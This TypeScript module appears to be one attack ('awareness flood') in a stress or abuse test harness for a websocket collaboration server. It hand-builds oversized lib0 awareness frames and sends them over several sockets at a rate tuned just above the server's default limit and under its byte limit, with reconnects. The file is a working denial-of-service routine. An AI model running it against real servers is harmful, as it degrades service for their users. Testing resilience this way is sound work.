/**
 * Attack 5: awareness updates with thousands of tiny entries, hand-built lib0 frames (message
 * type 1, then a varuint8array of [count, then per entry clientId, clock, JSON string]), sent over
 * a few of the account's websockets as fast as the server lets them through: paced just above the
 * server's default awareness rate (20 a second) and only while the socket's send buffer is
 * nearly empty. The first entries are the socket's own client ids with a rising clock, so each
 * frame also changes real presence that the server relays; the rest (about 24 KiB, under the
 * byte limit of an awareness update) are other ids the server must decode and refuse.
 */
import { randomInt } from 'node:crypto'
import * as encoding from 'lib0/encoding'
import WebSocket from 'ws'
import { MSG_AWARENESS } from '../../load/wire.js'
import { sleep } from '../loop.js'
import { Tally } from '../tally.js'
import { holdWebsocket } from './connection-flood.js'
import { type Attack, type AttackContext, cookieFor } from './context.js'

const SOCKETS = 4
const FRAMES_PER_SECOND = 25
const ENTRIES = 4_000
const OWN_ENTRIES = 4
/** Connections opened in all (reconnects after the server closed one included). */
const MAX_CONNECTIONS = 400
const MAX_BUFFERED_BYTES = 256 * 1024

/** The entries after the socket's own: ids 1…, clock 1, state `{}`, about 6 bytes each. */
function tail(): Uint8Array {
  const e = encoding.createEncoder()
  for (let id = 1; id <= ENTRIES - OWN_ENTRIES; id++) {
    encoding.writeVarUint(e, id)
    encoding.writeVarUint(e, 1)
    encoding.writeVarString(e, '{}')
  }
  return encoding.toUint8Array(e)
}

function frame(own: number[], clock: number, rest: Uint8Array): Uint8Array {
  const update = encoding.createEncoder()
  encoding.writeVarUint(update, ENTRIES)
  for (const id of own) {
    encoding.writeVarUint(update, id)
    encoding.writeVarUint(update, clock)
    encoding.writeVarString(update, `{"cursor":${clock}}`)
  }
  encoding.writeUint8Array(update, rest)
  const e = encoding.createEncoder()
  encoding.writeVarUint(e, MSG_AWARENESS)
  encoding.writeVarUint8Array(e, encoding.toUint8Array(update))
  return encoding.toUint8Array(e)
}

export function awarenessFlood(ctx: AttackContext): Attack {
  const frames = new Tally('awareness-flood', `awareness frames of ${ENTRIES} entries (5)`, 'websockets')
  const rest = tail()
  let connections = 0
  const flood = async (slot: number) => {
    while (!ctx.signal.aborted && connections < MAX_CONNECTIONS) {
      connections++
      frames.add('connections', 1)
      const own = Array.from({ length: OWN_ENTRIES }, () => randomInt(1_000_000, 2 ** 30))
      let clock = 1
      let timer: NodeJS.Timeout | null = null
      await holdWebsocket(ctx, frames, cookieFor(ctx.target, slot + connections), (ws) => {
        timer = setInterval(() => {
          if (ws.readyState !== WebSocket.OPEN || ws.bufferedAmount > MAX_BUFFERED_BYTES) return
          frames.attempts++
          ws.send(frame(own, ++clock, rest))
        }, 1000 / FRAMES_PER_SECOND)
      })
      if (timer) clearInterval(timer)
      await sleep(1_000, ctx.signal)
    }
  }
  const done = Promise.all(Array.from({ length: SOCKETS }, (_, slot) => flood(slot))).then(() => {})
  return { tallies: [frames], done }
}
